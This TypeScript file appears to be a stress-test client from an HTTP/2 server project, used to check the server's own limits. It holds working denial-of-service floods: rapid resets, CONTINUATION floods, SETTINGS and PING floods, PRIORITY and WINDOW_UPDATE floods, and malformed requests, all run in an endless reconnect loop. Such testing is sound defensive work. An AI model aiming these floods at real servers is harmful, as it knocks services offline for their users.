/**
 * A client of HTTP/2 that means no good, until it is ended: `bun h2_attacker.ts PORT ATTACK`. Each
 * attack is one of a limit of `limits.http2`; when the connection is lost the next one begins.
 */
import { Flag, Setting } from "../../src/http2/constants.ts";
import { requestFields, setting } from "../../tests/support/http2_client.ts";
import { SocketHttp2Client } from "../../tests/support/http2_socket.ts";

type Act = (client: SocketHttp2Client) => void;

/** Frames that are sent before it is looked whether the connection is still there. */
const ROUND = 100;

export const H2_ATTACKS = {
  resets: (client) => client.reset(client.request()),
  "made resets": (client) => client.windowUpdate(client.request(), 0),
  continuations: (client) => {
    client.frame("HEADERS", Flag.END_STREAM, client.nextId(), new Uint8Array(0));
    for (let count = 0; count < 10; count++) {
      client.frame("CONTINUATION", 0, 1, new Uint8Array(16_000).fill(0x82));
    }
  },
  settings: (client) => client.frame("SETTINGS", 0, 0, setting(Setting.INITIAL_WINDOW_SIZE, 1)),
  pings: (client) => client.ping(),
  "empty frames": (client) => client.frame("PRIORITY", 0, 3, Uint8Array.of(0, 0, 0, 1, 16)),
  "window updates": (client) => client.windowUpdate(0, 1),
  "malformed requests": (client) => void client.request(requestFields("GET", "/", [["te", "x"]])),
} as const satisfies Readonly<Record<string, Act>>;

export type H2Attack = keyof typeof H2_ATTACKS;

async function attack(port: number, act: Act): Promise<never> {
  for (;;) {
    const client = await SocketHttp2Client.open(port);
    while (!client.isClosed && client.goaway === undefined) {
      for (let count = 0; count < ROUND; count++) act(client);
      await new Promise((resolve) => setTimeout(resolve, 1));
    }
    client.destroy();
  }
}

if (import.meta.main) {
  const [port, name] = process.argv.slice(2);
  await attack(Number(port), H2_ATTACKS[name as H2Attack]);
}
